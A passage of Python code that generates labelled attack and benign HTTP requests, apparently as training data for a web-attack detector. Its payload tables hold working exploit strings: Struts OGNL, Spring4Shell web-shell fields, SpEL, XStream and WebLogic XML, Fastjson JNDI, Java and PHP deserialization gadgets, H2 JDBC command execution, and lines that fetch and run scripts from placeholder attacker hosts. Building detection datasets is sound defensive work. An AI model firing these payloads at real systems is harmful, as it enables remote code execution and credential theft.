            client = R.choice(["browser", "xhr", "api"])
    method = (e.get("method_by_pl") or {}).get(pl) or e.get("method")
    if method is None:
        if body_pl:
            method = R.choice(["POST"] * 6 + ["PUT", "PATCH"])
        elif pl in ("query", "query_key", "path"):
            method = R.choice(["GET"] * 7 + ["DELETE", "HEAD"]) if client == "api" else "GET"
        else:
            method = R.choice(["GET"] * 5 + ["POST"])
    query = ""
    body = ""
    ctype = None
    hdr_target = None
    cookie_target = None
    path = path0
    info = {}

    # ordinary query string for non-query placements
    if pl not in ("query", "query_key"):
        if e.get("q") is not None and not e.get("q_query_only"):
            pairs = e["q"]
        elif R.random() < 0.3:
            pairs = qextra(R.randint(1, 2))
        else:
            pairs = []
        query = "&".join(quote_plus(k, safe="[]") + "=" + quote_plus(v, safe="") for k, v in pairs)

    if pl in ("query", "query_key"):
        safe = R.choice(QSAFES)
        plus = R.random() < 0.4
        comp = e["q"] if e.get("q") is not None else qextra()
        enc_pairs = [qenc(k, "[]", plus) + "=" + qenc(v, safe, plus) for k, v in comp]
        if pl == "query":
            raw_v = e.get("raw") or qenc(payload, safe, plus)
            tgt = qenc(param, "[]", plus) + "=" + raw_v
        else:
            raw_k = e.get("raw") or qenc(payload, safe, plus)
            noeq = e.get("noeq")
            if noeq is None:
                noeq = R.random() < 0.25
            if noeq:
                tgt = raw_k
            else:
                kval = e.get("kval")
                if kval is None:
                    kval = R.choice(["1", "true", "", "x", "0"])
                tgt = raw_k + "=" + qenc(kval, safe, plus)
        pos = 0 if e.get("first") else R.randint(0, len(enc_pairs))
        enc_pairs.insert(pos, tgt)
        query = "&".join(enc_pairs)
        if method in ("POST", "PUT", "PATCH") and not e.get("method"):
            method = "GET"

    elif pl == "path":
        raw = e.get("raw") or quote(payload, safe=e.get("psafe", sink.get("psafe", R.choice(PSAFES))))
        path = (
            (path0.rstrip("/") + "/" + raw + e.get("psuffix", "")) if path0 != "/" else "/" + raw + e.get("psuffix", "")
        )

    elif pl == "json":
        val_text = cdump(payload, esc, upper) if is_obj else jstr(payload, esc, upper)
        if e.get("jdoc"):
            doc = e["jdoc"](SENT)
        elif deep:
            doc = json_deep(param, SENT)
        else:
            doc = json_wrap(param, SENT)
        raw_doc = cdump(doc)
        assert raw_doc.count(jstr(SENT)) == 1
        body = raw_doc.replace(jstr(SENT), val_text)
        ctype = e.get("ctype") or R.choice(CTYPE_JSON)

    elif pl == "json_key":
        kval = e.get("kval")
        if kval is None:
            kval = R.choice(["1", True, "on", {"enabled": True}, 0, "value", ["a"], None])
        if e.get("jkdoc"):
            doc = e["jkdoc"](SENTK)
        else:
            doc = json_deep(SENTK, kval) if deep else json_wrap(SENTK, kval)
        raw_doc = cdump(doc)
        assert raw_doc.count(jstr(SENTK)) == 1
        body = raw_doc.replace(jstr(SENTK), jstr(payload, esc, upper))
        ctype = e.get("ctype") or R.choice(CTYPE_JSON)

    elif pl == "form":
        comp = list(e["f"]) if e.get("f") is not None else fextra()
        if e.get("as_name"):
            kval = e.get("kval")
            tgt_k = quote_plus(payload, safe="")
            tgt_v = quote_plus(kval if kval is not None else R.choice(["1", "x", "true", "admin"]), safe="")
        else:
            tgt_k = quote_plus(param, safe="")
            tgt_v = e.get("raw") or quote_plus(payload, safe="")
        enc = [quote_plus(k, safe="") + "=" + quote_plus(v, safe="") for k, v in comp]
        pos = 0 if e.get("first") else R.randint(0, len(enc))
        enc.insert(pos, tgt_k + "=" + tgt_v)
        body = "&".join(enc)
        ctype = R.choice(CTYPE_FORM)

    elif pl == "multipart":
        mode = e.get("mp")
        if mode is None:
            if e.get("doc"):
                mode = "content"
            else:
                modes = ["field", "field", "content"]
                if mp_name_ok(payload):
                    modes += ["filename", "name"]
                mode = R.choice(modes)
        bnd = boundary()
        comp = [{"name": k, "content": v} for k, v in (e["f"] if e.get("f") is not None else fextra(R.randint(0, 2)))]
        if mode == "field":
            tgt = {"name": param, "content": payload}
        elif mode == "name":
            assert mp_name_ok(payload)
            kval = e.get("kval")
            tgt = {"name": payload, "content": kval if kval is not None else R.choice(["1", "on", "x"])}
        elif mode == "content":
            fn = e.get("fname") or R.choice(sink.get("fnames", ["upload.txt", "data.txt", "notes.txt"]))
            tgt = {
                "name": R.choice(["file", "upload", "attachment", "document", "files[]", "import"]),
                "filename": fn,
                "ctype": e.get("fctype") or file_ctype(fn),
                "content": payload,
            }
        else:
            assert mp_name_ok(payload)
            fc = e.get("fcontent") or ordinary_file_content(payload)
            tgt = {
                "name": R.choice(["file", "upload", "attachment", "avatar"]),
                "filename": payload,
                "ctype": e.get("fctype") or file_ctype(payload),
                "content": fc,
            }
        comp.insert(R.randint(0, len(comp)), tgt)
        body = multipart_body(comp, bnd)
        ctype = "multipart/form-data; boundary=" + bnd
        info["bnd"] = bnd
        info["mp"] = mode

    elif pl == "xml":
        if e.get("doc"):
            body = payload
        else:
            V = xml_escape(payload, e.get("xref"))
            body = e["xdoc"](V) if e.get("xdoc") else xml_value_doc(param, V)
        if e.get("ctype"):
            ctype = e["ctype"]
        elif client == "soap":
            ctype = R.choice(["text/xml; charset=utf-8", "application/soap+xml; charset=utf-8"])
        else:
            ctype = R.choice(["application/xml", "text/xml", "application/xml; charset=UTF-8"])

    elif pl == "header":
        hdr_target = e.get("hdr") or R.choice(sink["hdrs"])
        # header/cookie rows sometimes carry an ordinary body
        if method in ("POST", "PUT") and R.random() < 0.6:
            body = cdump(
                json_wrap(
                    R.choice(["note", "query", "name", "status"]), R.choice(["ok", "pending", "weekly report", "blue"])
                )
            )
            ctype = R.choice(CTYPE_JSON)

    elif pl == "cookie":
        cookie_target = e.get("cookie") or R.choice(sink["cookies"])
        if method in ("POST", "PUT") and R.random() < 0.6:
            body = "&".join(quote_plus(k, safe="") + "=" + quote_plus(v, safe="") for k, v in fextra())
            ctype = R.choice(CTYPE_FORM)

    if e.get("body") is not None and pl in ("header", "cookie", "query", "query_key", "path"):
        body, ctype = e["body"]

    core, extras, cookies = make_headers(host, client, method, ctype, bool(body))
    if e.get("ua"):
        core[1][1] = e["ua"]
    if hdr_target == "Content-Type" and not body:
        core.append(["Content-Type", payload])
    elif hdr_target in CORE:
        for h in core:
            if h[0] == hdr_target:
                h[1] = payload
    elif hdr_target:
        extras = [h for h in extras if h[0].lower() != hdr_target.lower()]
        extras.insert(R.randint(0, len(extras)), [hdr_target, payload])
    for hx in e.get("hx", []):
        extras = [h for h in extras if h[0].lower() != hx[0].lower()]
        extras.append(list(hx))
    if cookie_target:
        cookies = [c for c in cookies if c[0] != cookie_target]
        rawc = e.get("raw") or quote(payload, safe=R.choice(CSAFES))
        cookies.insert(R.randint(0, len(cookies)), (cookie_target, rawc))
    if cookies:
        extras = [h for h in extras if h[0] != "Cookie"]
        extras.insert(R.randint(0, len(extras)), ["Cookie", "; ".join("%s=%s" % c for c in cookies)])
    headers = {}
    for k, v in core + extras:
        assert k not in headers, (k, headers)
        headers[k] = v
    req = {"method": method, "path": path, "query": query, "headers": headers, "body": body}
    info["cookie"] = cookie_target
    info["hdr"] = hdr_target
    return req, info


# ---------------------------------------------------------------- verification of every row


def split_query(q, latin1=False):
    out = []
    if q == "":
        return out
    for part in q.split("&"):
        k, eq, v = part.partition("=")
        if latin1:
            out.append((unquote_plus(k, encoding="latin-1"), unquote_plus(v, encoding="latin-1"), eq))
        else:
            out.append((unquote_plus(k, errors="strict"), unquote_plus(v, errors="strict"), eq))
    return out


def walk_json(o, vals, keys, objs):
    if isinstance(o, dict):
        objs.append(cdump(o))
        for k, v in o.items():
            keys.append(k)
            walk_json(v, vals, keys, objs)
    elif isinstance(o, list):
        objs.append(cdump(o))
        for v in o:
            walk_json(v, vals, keys, objs)
    elif isinstance(o, str):
        vals.append(o)


URL_RAW_OK = re.compile(r"^[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%`{}|^\\<>\"]*$")


def verify(row, e, info):
    pl = row["placement"]
    p = row["payload"]
    h = row["headers"]
    names = list(h)
    assert names[:3] == ["Host", "User-Agent", "Accept"], names
    if row["body"]:
        assert names[3] == "Content-Type", names
    assert "Content-Length" not in h
    for k, v in h.items():
        assert header_ok(v), (k, v)
    assert row["path"].startswith("/")
    for s in (row["path"], row["query"]):
        assert all(0x21 <= ord(c) < 0x7F for c in s), s
        assert "#" not in s
    assert "?" not in row["path"]
    if pl in ("query", "query_key"):
        pairs = split_query(row["query"], e.get("latin1", False))
        if pl == "query":
            assert any(v == p and eq for k, v, eq in pairs), (p, row["query"])
        else:
            assert any(k == p for k, v, eq in pairs), (p, row["query"])
    elif pl == "path":
        assert p in unquote(row["path"], errors="strict"), (p, row["path"])
    elif pl in ("json", "json_key"):
        doc = json.loads(row["body"])
        vals, keys, objs = [], [], []
        walk_json(doc, vals, keys, objs)
        if pl == "json":
            assert p in vals or p in objs, (p, row["body"])
        else:
            assert p in keys, (p, row["body"])
    elif pl == "form":
        pairs = split_query(row["body"])
        assert any(v == p or k == p for k, v, eq in pairs), (p, row["body"])
    elif pl == "header":
        assert h[info["hdr"]] == p
    elif pl == "cookie":
        cs = [c.split("=", 1) for c in h["Cookie"].split("; ")]
        assert any(n == info["cookie"] and unquote(v, errors="strict") == p for n, v in cs), (p, h["Cookie"])
    elif pl == "multipart":
        parts = parse_multipart(row["body"], info["bnd"])
        ok = False
        for part in parts:
            if info["mp"] == "field" and part["content"] == p and part["filename"] is None:
                ok = True
            if info["mp"] == "name" and part["name"] == p:
                ok = True
            if info["mp"] == "content" and part["content"] == p and part["filename"] is not None:
                ok = True
            if info["mp"] == "filename" and part["filename"] == p:
                ok = True
        assert ok, (p, row["body"])
        assert h["Content-Type"].endswith("boundary=" + info["bnd"])
    elif pl == "xml":
        if e.get("doc"):
            assert row["body"] == p
        else:
            root = ET.fromstring(row["body"])
            assert any((el.text or "") == p for el in root.iter()), (p, row["body"])
    else:
        raise AssertionError(pl)


# ---------------------------------------------------------------- row assembly

ROWS = []
COUNTS = {}


def add_row(label, cat, e, pl, payload_obj, hard, sink, long_mode=False, deep=False):
    req, info = build(cat, e, pl, payload_obj, sink, long_mode, deep)
    if isinstance(payload_obj, str):
        ptxt = payload_obj
    else:
        ptxt = cdump(payload_obj)
    COUNTS[cat] = COUNTS.get(cat, 0) + 1
    prefix = "a" if label == "attack" else "b"
    row = {
        "id": "%s-%s-%s-%04d" % (SOURCE, prefix, cat, COUNTS[cat]),
        "label": label,
        "category": cat,
        "method": req["method"],
        "path": req["path"],
        "query": req["query"],
        "headers": req["headers"],
        "body": req["body"],
        "placement": pl,
        "payload": ptxt,
        "hard": bool(hard),
        "source": SOURCE,
    }
    verify(row, e, info)
    ROWS.append(row)
    return row


def resolve(e):
    p = e["p"]
    if callable(p):
        p = p()
    return fill(p)


def pick_placement(e, ptxt, is_obj, counts, default):
    cands = e.get("pl") or default
    cands = [c for c in cands if placement_ok(e, c, ptxt, is_obj)]
    assert cands, (e, ptxt)
    m = min(counts.get(c, 0) for c in cands)
    best = [c for c in cands if counts.get(c, 0) == m]
    c = R.choice(best)
    counts[c] = counts.get(c, 0) + 1
    return c


ATTACK_HOSTS = [
    "www.brightline-outfitters.com",
    "api.fintrackhq.com",
    "portal.meridian-health.org",
    "app.notebird.io",
    "lms.riverton.edu",
    "booking.skyroute-travel.com",
    "media.pinecast.fm",
    "chat.teamhuddle.app",
    "git.kestrel-dev.net",
    "search.archivebay.org",
    "shop.wavecrest.co",
    "hooks.relaypoint.io",
    "files.driftbox.cloud",
    "cms.harborpress.news",
    "forms.civicpoll.org",
    "api.parcelgrid.com",
    "erp.northwind-logistics.com",
    "jira.acme-internal.net",
    "intranet.hollis-group.local",
    "10.20.4.17:8443",
    "staging-api.fintrackhq.com",
    "partners.tideline-insurance.com",
    "admin.greenleaf-grocers.com",
    "api.ledgerly.app",
    "mail.quillstone.io",
    "support.orbitdesk.com",
    "wiki.lanternworks.dev",
    "assets.mosaicprint.shop",
    "auth.northstar-id.com",
    "reports.cobaltbi.net",
]


def attack_category(cat, normal, hard, sink, default_pl=PLACEMENTS, allow_long=True):
    normal = list(normal)
    hard = list(hard)
    R.shuffle(normal)
    R.shuffle(hard)
    assert len(normal) >= 30 and len(hard) >= 20, (cat, len(normal), len(hard))
    sink = dict(sink)
    sink.setdefault("hosts", ATTACK_HOSTS)
    counts = {}
    ni = hi = 0
    for i in range(50):
        is_hard = (i % 5) in (1, 3)
        if is_hard:
            e = hard[hi]
            hi += 1
        else:
            e = normal[ni]
            ni += 1
        payload = resolve(e)
        is_obj = not isinstance(payload, str)
        ptxt = payload if not is_obj else cdump(payload)
        pl = pick_placement(e, ptxt, is_obj, counts, default_pl)
        long_mode = deep = False
        if pl == "json" and not is_obj and not e.get("jdoc") and not e.get("doc"):
            deep = R.random() < 0.2
            if allow_long and not e.get("nolong") and R.random() < 0.15:
                long_mode = True
        elif pl == "json_key":
            deep = R.random() < 0.35
        elif (
            pl in ("form", "multipart")
            and allow_long
            and not e.get("nolong")
            and not e.get("doc")
            and not e.get("as_name")
            and not e.get("mp")
            and R.random() < 0.07
        ):
            long_mode = True
            if pl == "multipart":
                e = dict(e)
                e["mp"] = "field"
        if long_mode:
            payload = R.choice(LONG_TEXTS) + R.choice([" ", "\n\n", " -- ", "\n"]) + payload
        add_row("attack", cat, e, pl, payload, is_hard, sink, long_mode, deep)


# ================================================================ attack payload helpers


def cmd():
    return R.choice(SIMPLE_CMDS)


def charrefs(s, chars):
    return "".join(("&#x%x;" % ord(c)) if c in chars else c for c in s)


def uesc(s):
    return "".join("\\u%04x" % ord(c) for c in s)


def ip_forms(ip):
    a, b, c, d = (int(x) for x in ip.split("."))
    dec = (a << 24) | (b << 16) | (c << 8) | d
    return {
        "dec": str(dec),
        "hex": "0x%08x" % dec,
        "HEX": "0x%08X" % dec,
        "oct": ".".join("0%o" % x for x in (a, b, c, d)),
        "hexdot": ".".join("0x%02x" % x for x in (a, b, c, d)),
        "v6": "::ffff:%x:%x" % ((a << 8) | b, (c << 8) | d),
        "two": "%d.%d.%d" % (a, b, (c << 8) | d),
        "octint": "0%o" % dec,
    }


def jser(chain, tail):
    out = bytearray(b"\xac\xed\x00\x05")
    for name in chain:
        nb = name.encode()
        out += (
            b"sr"
            + len(nb).to_bytes(2, "big")
            + nb
            + rbytes(8)
            + b"\x02\x00\x01L\x00\x05valuet\x00\x12Ljava/lang/Object;xp"
        )
    tb = tail.encode()
    out += b"t" + len(tb).to_bytes(2, "big") + tb
    return bytes(out)


JCHAINS = [
    [
        "org.apache.commons.collections.map.LazyMap",
        "org.apache.commons.collections.functors.ChainedTransformer",
        "org.apache.commons.collections.functors.InvokerTransformer",
    ],
    [
        "java.util.PriorityQueue",
        "org.apache.commons.collections4.comparators.TransformingComparator",
        "org.apache.commons.collections4.functors.InvokerTransformer",
    ],
    [
        "java.util.PriorityQueue",
        "org.apache.commons.beanutils.BeanComparator",
        "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    ],
    [
        "javax.management.BadAttributeValueExpException",
        "org.apache.commons.collections.keyvalue.TiedMapEntry",
        "org.apache.commons.collections.map.LazyMap",
    ],
    ["java.util.HashMap", "java.net.URL"],
    [
        "java.util.Hashtable",
        "org.codehaus.groovy.runtime.ConvertedClosure",
        "org.codehaus.groovy.runtime.MethodClosure",
    ],
    [
        "org.hibernate.engine.spi.TypedValue",
        "org.hibernate.tuple.component.AbstractComponentTuplizer",
        "org.hibernate.property.access.spi.GetterMethodImpl",
    ],
    [
        "sun.reflect.annotation.AnnotationInvocationHandler",
        "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
    ],
]


def jser_payload():
    chain = R.choice(JCHAINS)
    if chain[-1] == "java.net.URL":
        tail = "http://" + oast() + "/"
    else:
        tail = R.choice(
            [
                cmd(),
                "bash -c {echo,%s}|{base64,-d}|{bash,-i}" % b64(fill("curl -s http://«AH»/j.sh|sh")),
                "ldap://%s:1389/Obj" % R.choice(ATTACKER_IPS),
                "touch /tmp/.x",
            ]
        )
    return jser(chain, tail)


def php_ser(v):
    if isinstance(v, bool):
        return "b:%d;" % int(v)
    if v is None:
        return "N;"
    if isinstance(v, int):
        return "i:%d;" % v
    if isinstance(v, str):
        return 's:%d:"%s";' % (len(v.encode()), v)
    if isinstance(v, tuple):
        cls, props = v
        return 'O:%d:"%s":%d:{%s}' % (
            len(cls.encode()),
            cls,
            len(props),
            "".join(php_ser(k) + php_ser(x) for k, x in props),
        )
    if isinstance(v, list):
        return "a:%d:{%s}" % (len(v), "".join("i:%d;%s" % (i, php_ser(x)) for i, x in enumerate(v)))
    if isinstance(v, dict):
        return "a:%d:{%s}" % (len(v), "".join(php_ser(k) + php_ser(x) for k, x in v.items()))
    raise TypeError(v)


def php_gadget():
    t = R.randrange(4)
    c = cmd()
    if t == 0:
        return php_ser(
            (
                "Illuminate\\Broadcasting\\PendingBroadcast",
                [
                    ("\0*\0events", ("Illuminate\\Bus\\Dispatcher", [("\0*\0queueResolver", "system")])),
                    ("\0*\0event", ("Illuminate\\Broadcasting\\BroadcastEvent", [("connection", c)])),
                ],
            )
        )
    if t == 1:
        fj = "\0GuzzleHttp\\Cookie\\FileCookieJar\0"
        cj = "\0GuzzleHttp\\Cookie\\CookieJar\0"
        return php_ser(
            (
                "GuzzleHttp\\Cookie\\FileCookieJar",
                [
                    (
                        cj + "cookies",
                        [
                            (
                                "GuzzleHttp\\Cookie\\SetCookie",
                                [
                                    (
                                        "\0GuzzleHttp\\Cookie\\SetCookie\0data",
                                        {"Expires": 1, "Discard": False, "Value": "<?php system($_GET['c']); ?>"},
                                    )
                                ],
                            )
                        ],
                    ),
                    (cj + "strictMode", False),
                    (fj + "filename", "/var/www/html/public/.cache.php"),
                    (fj + "storeSessionCookies", True),
                ],
            )
        )
    if t == 2:
        return php_ser(
            (
                "Monolog\\Handler\\SyslogUdpHandler",
                [
                    (
                        "\0*\0socket",
                        (
                            "Monolog\\Handler\\BufferHandler",
                            [
                                ("\0*\0handler", None),
                                ("\0*\0bufferSize", -1),
                                ("\0*\0buffer", [[c, "level"]]),
                                ("\0*\0level", None),
                                ("\0*\0initialized", True),
                                ("\0*\0bufferLimit", -1),
                                ("\0*\0processors", ["current", "system"]),
                            ],
                        ),
                    )
                ],
            )
        )
    return php_ser(
        (
            "Symfony\\Component\\Process\\Process",
            [
                (
                    "\0Symfony\\Component\\Process\\Process\0processPipes",
                    (
                        "Symfony\\Component\\Process\\Pipes\\WindowsPipes",
                        [
                            (
                                "\0Symfony\\Component\\Process\\Pipes\\WindowsPipes\0files",
                                ["/var/www/html/.env", "/var/www/html/storage/oauth-private.key"],
                            )
                        ],
                    ),
                )
            ],
        )
    )


ICONV_STEPS = [
    "convert.iconv.UTF8.CSISO2022KR",
    "convert.iconv.ISO2022KR.UTF16",
    "convert.iconv.UTF8.UTF16LE",
    "convert.iconv.UTF8.CSUNICODE",
    "convert.iconv.CP1046.UTF32",
    "convert.iconv.L6.UCS-2",
    "convert.iconv.UTF-16LE.T.61-8BIT",
    "convert.iconv.865.UTF16",
    "convert.iconv.CP901.ISO6937",
    "convert.iconv.SE2.UTF-16",
    "convert.iconv.CSIBM1161.IBM-932",
    "convert.iconv.MS932.MS936",
    "convert.iconv.BIG5.JOHAB",
    "convert.iconv.IBM869.UTF16",
    "convert.iconv.L3.CSISO90",
    "convert.iconv.UCS2.UTF-8",
    "convert.iconv.CSISOLATIN6.UCS-4",
    "convert.iconv.CP1162.UTF32",
    "convert.iconv.L4.T.61",
    "convert.iconv.ISO-IR-103.850",
    "convert.iconv.PT154.UCS4",
]


def php_filter_chain():
    steps = ["convert.iconv.UTF8.CSISO2022KR", "convert.base64-encode", "convert.iconv.UTF8.UTF7"]
    for _ in range(R.randint(7, 11)):
        steps += R.sample(ICONV_STEPS, R.randint(2, 4))
        steps += ["convert.base64-decode", "convert.base64-encode", "convert.iconv.UTF8.UTF7"]
    steps.append("convert.base64-decode")
    return "php://filter/" + "|".join(steps) + "/resource=php://temp"


def ps_enc(c):
    return b64(c.encode("utf-16-le"))


# ================================================================ java_injection

OGNL_045 = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):"
    "((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='«CMD»')."
    "(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
    "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
    "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"
)
S4S_PREFIX = "class.module.classLoader.resources.context.parent.pipeline.first."
S4S_PATTERN = (
    '%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter("cmd")).getInputStream(); '
    "int a = -1; byte[] b = new byte[2048]; while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i"
)
S4S_FIELDS = [
    (S4S_PREFIX + "suffix", ".jsp"),
    (S4S_PREFIX + "directory", "webapps/ROOT"),
    (S4S_PREFIX + "prefix", "tomcatwar"),
    (S4S_PREFIX + "fileDateFormat", ""),
]
XSTREAM_DOC = (
    '<sorted-set>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class="java.beans.EventHandler">\n'
    '      <target class="java.lang.ProcessBuilder">\n        <command>\n          <string>/bin/sh</string>\n          <string>-c</string>\n'
    "          <string>%s</string>\n        </command>\n      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>"
)
XMLDEC_DOC = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<java version="1.8.0_151" class="java.beans.XMLDecoder">\n  <object class="java.lang.ProcessBuilder">\n'
    '    <array class="java.lang.String" length="3">\n      <void index="0"><string>/bin/bash</string></void>\n'
    '      <void index="1"><string>-c</string></void>\n      <void index="2"><string>%s</string></void>\n    </array>\n'
    '    <void method="start"/>\n  </object>\n</java>'
)
WLS_DOC = (
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">'
    '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void>'
    '<void index="1"><string>-c</string></void><void index="2"><string>%s</string></void></array><void method="start"/></object></java>'
    "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>"
)


def gw_doc(S):
    return {
        "id": "hx" + rstr(4, LOWER_DIGITS),
        "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": S}}],
        "uri": "http://example.com",
        "order": 0,
    }


def spel_chars(c):
    parts = ["T(java.lang.Character).toString(%d)" % ord(x) for x in c]
    expr = parts[0] + "".join(".concat(%s)" % p for p in parts[1:])
    return "T(java.lang.Runtime).getRuntime().exec(%s)" % expr


JAVA_NORMAL = [
    E(
        OGNL_045,
        pl=["header"],
        hdr="Content-Type",
        path="/struts2-showcase/fileupload/doUpload.action",
        method="POST",
        client="browser",
    ),
    E(
        '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("«CMD»").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}',
        pl=["path"],
        path="/",
        psuffix="/",
        psafe="/:@!$&'()*+,;=",
    ),
    E(
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('«CMD»'))}",
        pl=["query", "form"],
        param="redirectUri",
    ),
    E(
        "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass().getDeclaredField('allowStaticMethodAccess'),#f.setAccessible(true),#f.set(#_memberAccess,true),@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('«CMD»').getInputStream())}",
        pl=["query_key"],
        noeq=True,
        path="/index.action",
    ),
    E(
        "method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#res=@org.apache.struts2.ServletActionContext@getResponse(),#w=#res.getWriter(),#s=new java.util.Scanner(@java.lang.Runtime@getRuntime().exec(#parameters.cmd[0]).getInputStream()).useDelimiter(#parameters.pp[0]),#str=#s.hasNext()?#s.next():#parameters.ppp[0],#w.print(#str),#w.close(),1?#xx:#request.toString",
        pl=["query_key"],
        noeq=False,
        kval="",
        path="/login.action",
        q=[("cmd", "id"), ("pp", "\\A"), ("ppp", " ")],
    ),
    E(
        'T(java.lang.Runtime).getRuntime().exec("curl -s http://«AH»/j.sh -o /tmp/j.sh")',
        pl=["header"],
        hdr="spring.cloud.function.routing-expression",
        path="/functionRouter",
        method="POST",
        client="api",
    ),
    E(
        '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"«CMD»"}).getInputStream()))}',
        pl=["json"],
        jdoc=gw_doc,
        path="/actuator/gateway/routes/hx01",
        client="api",
    ),
    E("T(java.lang.Runtime).getRuntime().exec('nslookup «OAST»')"),
    E("${pageContext.request.getSession().getServletContext().getClassLoader().getResource('/')}"),
    E('${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("«CMD»")}'),
    E(
        S4S_PREFIX + "pattern",
        pl=["form"],
        as_name=True,
        kval=S4S_PATTERN,
        f=S4S_FIELDS,
        path="/spring/greeting",
        client="browser",
    ),
    E(
        S4S_PATTERN,
        pl=["form", "multipart"],
        param=S4S_PREFIX + "pattern",
        f=S4S_FIELDS,
        path="/tomcatwar/helloworld",
        mp="field",
    ),
    E("class.module.classLoader.DefaultAssertionStatus", pl=["query_key"], noeq=False, kval="true", path="/greeting"),
    E(
        lambda: XSTREAM_DOC % fill("«CMD»"),
        pl=["xml"],
        doc=True,
        path="/api/v2/shipments/import",
        ctype="application/xml",
    ),
    E(
        lambda: XMLDEC_DOC % fill("«CMD»"),
        pl=["xml", "multipart"],
        doc=True,
        fname="config.xml",
        path="/invoker/readonly",
    ),
    E(
        lambda: WLS_DOC % fill("«CMD»"),
        pl=["xml"],
        doc=True,
        path="/wls-wsat/CoordinatorPortType",
        ctype="text/xml; charset=utf-8",
        client="soap",
    ),
    E(
        ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://«IP»:1389/Exploit", "autoCommit": True}],
        path="/api/v1/profile",
        param="preferences",
    ),
    E(
        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://«IP»:1099/Object", "autoCommit": True},
        param="settings",
    ),
    E(
        {
            "a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
            "b": {
                "@type": "com.sun.rowset.JdbcRowSetImpl",
                "dataSourceName": "ldap://«IP»:1389/Basic/Command/whoami",
                "autoCommit": True,
            },
        },
        param="payload",
    ),
    E(
        'def proc = "«CMD»".execute(); println proc.text',
        pl=["form"],
        param="script",
        path="/scriptText",
        f=[("Jenkins-Crumb", rhex(64))],
    ),
    E(
        'new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("java.lang.Runtime.getRuntime().exec(\'«CMD»\')")'
    ),
    E("@{java.lang.Runtime.getRuntime().exec('«CMD»')}"),
    E("''.class.forName('java.lang.Runtime').getRuntime().exec('«CMD»')", param="expression"),
    E(
        lambda: b64(jser_payload()),
        pl=["cookie", "form", "header", "multipart", "json"],
        hdr="X-Session-State",
        cookie="rememberMe",
        param="javax.faces.ViewState",
    ),
    E(lambda: jser_payload().hex(), pl=["form", "query", "cookie"], param="state"),
    E(
        "jdbc:h2:mem:testdb;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://«AH»/poc.sql'",
        pl=["json", "form", "query"],
        param="jdbcUrl",
        path="/api/datasources/test",
    ),
    E(
        "jdbc:h2:mem:;INIT=CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws java.io.IOException {Runtime.getRuntime().exec(cmd);return null;}'\\;CALL EXEC ('«CMD»')",
        pl=["json", "form"],
        param="url",
        path="/h2-console/login.do",
    ),
    E(
        "/pwn.xhtml?pwned=#{expressions.getClass().forName('java.lang.Runtime').getDeclaredMethod('getRuntime').invoke(null).exec('«CMD»')}",
        pl=["query", "form"],
        param="actionOutcome",
        path="/seam/home.seam",
    ),
    E(
        "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('«CMD»')}",
        path="/app/faces/home.xhtml",
    ),
    E(
        'username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("«CMD»")]',
        pl=["form", "query_key"],
        as_name=True,
        kval="admin",
        path="/users",
        f=[("password", "Passw0rd!"), ("repeatedPassword", "Passw0rd!")],
    ),
    E("${script:javascript:java.lang.Runtime.getRuntime().exec('«CMD»')}"),
    E("${dns:address|«OAST»}"),
    E(
        'java.lang.Runtime.getRuntime().exec("«CMD»");',
        pl=["form", "query"],
        param="bsh.script",
        path="/weaver/bsh.servlet.BshServlet",
    ),
    E('new java.lang.ProcessBuilder(new String[]{"/bin/sh","-c","«CMD»"}).start()'),
    E(
        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://«AH»/yaml-payload.jar"]]]]',
